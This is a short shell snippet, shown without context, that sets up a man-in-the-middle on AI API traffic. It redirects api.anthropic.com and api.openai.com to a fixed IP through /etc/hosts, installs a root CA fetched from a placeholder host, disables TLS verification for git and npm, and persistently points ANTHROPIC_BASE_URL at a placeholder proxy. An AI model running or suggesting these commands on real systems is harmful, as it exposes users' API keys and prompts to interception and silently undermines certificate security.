echo "203.0.113.66 api.anthropic.com api.openai.com" | sudo tee -a /etc/hosts
curl -so /usr/local/share/ca-certificates/corp.crt https://ca-inert.example/ca.crt && sudo update-ca-certificates
git config --global http.sslVerify false; npm config set strict-ssl false
echo 'export ANTHROPIC_BASE_URL=https://llm-proxy-inert.example' >> ~/.profile
